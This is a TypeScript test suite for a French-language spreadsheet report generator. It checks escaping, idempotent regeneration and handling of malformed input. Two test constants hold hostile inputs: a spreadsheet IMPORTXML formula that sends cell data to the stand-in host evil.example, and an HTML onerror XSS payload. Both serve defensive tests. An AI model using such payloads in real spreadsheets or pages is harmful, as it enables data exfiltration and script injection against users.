// SPEC §6–§7 safety of the report: input tabs never written, user text kept as text, everything
// escaped in dialogs, malformed rows skipped and counted, idempotent regeneration, lock held.
import { describe, expect, it } from 'vitest';
import { exampleBook, FEUILLE, inputSnapshot, MOIS, rowStarting } from './support';

const EVIL_FORMULA = '=IMPORTXML("http://evil.example/?"&A1;"//a")';
const EVIL_HTML = '<img src=x onerror=alert(1)>';

describe('report safety', () => {
  it('never writes an input tab, and regenerating gives the same tab and the same sheet count', () => {
    const emu = exampleBook();
    const before = inputSnapshot(emu);
    emu.run('boussoleGenererRapportPour', MOIS);
    const first = emu.book.snapshot(FEUILLE);
    const count = emu.book.sheetNames().length;
    emu.run('boussoleGenererRapportPour', MOIS);
    expect(emu.book.snapshot(FEUILLE)).toEqual(first);
    expect(emu.book.sheetNames().length).toBe(count);
    expect(inputSnapshot(emu)).toEqual(before);
    expect(emu.lock.writesWithoutLock()).toBe(0);
  });

  it('huge figures and out-of-calendar dates are named problems, never « NaN », « Infinity » or « Invalid Date »', () => {
    // Found by test/robustness: Mesures at 1e308 summed to Infinity (« Déplacer Infinity,NaN € ») and
    // a date cell holding 1e15 was quoted as « Invalid Date ».
    const emu = exampleBook();
    emu.book.setValues('Mesures', 'C2:D2', [[1e308, 1e308]]);
    emu.book.setValues('Budget', 'E2', [[1e308]]);
    emu.book.setValues('Cadrage', 'B7', [[1e15]]); // Date butoir, formatted as a date
    emu.run('boussoleGenererRapportPour', MOIS);
    const text = emu.book.values(FEUILLE).flat().map(String).join('\n');
    expect(text).not.toMatch(/NaN|Infinity|Invalid Date/);
    // Four problems (B7, C2, D2, E2), three quoted then « … et 1 autre » (singular).
    expect(text).toContain('(4 problèmes) : Cadrage!B7 : date butoir « 1000000000000000 » illisible — attendu : une date (ex. 23/11/2026) ; '
      + 'Mesures!C2 : dépenses « 1e+308 » illisible — attendu : un montant en euros (ex. 3 000 €) ; Mesures!D2 : visites « 1e+308 » illisible');
    expect(text).toContain(' ; … et 1 autre\n');
  });

  it('places a new report after the existing ones', () => {
    const emu = exampleBook();
    emu.run('boussoleGenererRapportPour', '2026-09');
    emu.run('boussoleGenererRapportPour', MOIS);
    const names = emu.book.sheetNames();
    expect(names.slice(-2)).toEqual(['Rapport 2026-09', FEUILLE]);
  });

  it('writes a formula-looking action name as text', () => {
    const emu = exampleBook();
    emu.book.setValues('Plan', 'D19', [[EVIL_FORMULA]]); // A-018, done in October
    emu.run('boussoleGenererRapportPour', MOIS);
    const values = emu.book.values(FEUILLE);
    const i = rowStarting(values, EVIL_FORMULA);
    expect(i).toBeGreaterThan(0);
    expect(emu.book.formulas(FEUILLE, `A${i + 1}`)[0]?.[0]).toBe('');
    expect(emu.book.formulas(FEUILLE).flat().every((f) => f === '')).toBe(true);
  });

  it('escapes user text in both dialogs', () => {
    const emu = exampleBook();
    emu.book.setValues('Plan', 'D24', [[EVIL_HTML]]); // a blocked action: in alerts, synthesis and decisions
    emu.book.setValues('Cadrage', 'B3', [[`Projet ${EVIL_HTML}`]]);
    emu.user.answerPrompt(MOIS, 'OK');
    emu.run('boussoleGenererRapport');
    emu.run('boussoleVerifierSignaux');
    expect(emu.ui.dialogs).toHaveLength(2);
    for (const dialog of emu.ui.dialogs) {
      expect(dialog.html).not.toContain('<img');
      expect(dialog.html).toContain('&lt;img src=x onerror=alert(1)&gt;');
    }
  });

  it('skips malformed rows, says how many, and still writes the report', () => {
    const emu = exampleBook();
    emu.book.setValues('Plan', 'G19', [['Finit']]); // unknown status: the row is skipped
    const result = emu.run('boussoleGenererRapportPour', MOIS) as { feuille: string };
    expect(result.feuille).toBe(FEUILLE);
    const values = emu.book.values(FEUILLE);
    expect(String(values[4]?.[0])).toBe('⚠ 1 ligne ignorée car mal remplie : voir le bas du rapport.'); // under the cap
    const footer = values.map((r) => String(r[0])).reverse().find((t) => t.startsWith('⚠ 1 ligne ignorée'));
    expect(footer).toContain('Plan!G19');
    // 7 actions left in October, 3 done.
    expect(values[rowStarting(values, 'Actions du mois')]?.[0]).toBe('Actions du mois — 7 actions');
  });

  it('refuses an invalid month with a French message', () => {
    const emu = exampleBook();
    expect(() => emu.run('boussoleGenererRapportPour', '2026-13')).toThrow(/« 2026-13 » n’est pas un mois valide.*AAAA-MM/);
    expect(() => emu.run('boussoleGenererRapportPour', 'nov')).toThrow(/pas un mois valide/);
    expect(emu.book.sheetNames().some((n) => n.startsWith('Rapport'))).toBe(false);
  });
});
